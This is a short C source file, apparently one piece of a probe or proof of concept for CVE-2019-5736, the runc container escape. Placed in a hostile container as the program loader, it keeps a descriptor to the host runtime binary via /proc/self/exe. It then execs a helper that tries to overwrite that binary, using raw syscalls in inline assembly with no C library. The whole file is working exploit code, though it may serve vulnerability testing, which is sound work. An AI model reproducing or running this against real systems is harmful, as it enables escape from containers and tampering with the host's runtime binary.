/* loader: stands in a hostile root as the loader of programs. Executed in place of the host's kern (CVE-2019-5736) it keeps a descriptor
 * of that binary and goes on as a program that tries to write to it. No C library: the auxiliary vector is not its own. */
#include <fcntl.h>
#include <sys/syscall.h>

static long call(long number, const void *one, long two, const void *three)
{
#if defined(__x86_64__)
    long result;
    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "a"(number), "D"(one), "S"(two), "d"(three)
                     : "rcx", "r11", "memory");
    return result;
#else
    register long x8 __asm__("x8") = number;
    register long x0 __asm__("x0") = (long)one;
    register long x1 __asm__("x1") = two;
    register long x2 __asm__("x2") = (long)three;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2) : "memory");
    return x0;
#endif
}

void probe_start(void);

void probe_start(void)
{
    static const char *const words[] = {"probe", "overwrite", 0};
    /* Descriptor 0 is made free first, so that the binary's number is known. */
    call(SYS_close, 0, 0, 0);
    (void)call(SYS_openat, (const void *)(long)AT_FDCWD, (long)"/proc/self/exe", (const void *)O_RDONLY);
    call(SYS_execve, "/bin/probe", (long)words, words + 2);
    for (;;)
        call(SYS_exit, (const void *)9, 0, 0);
}
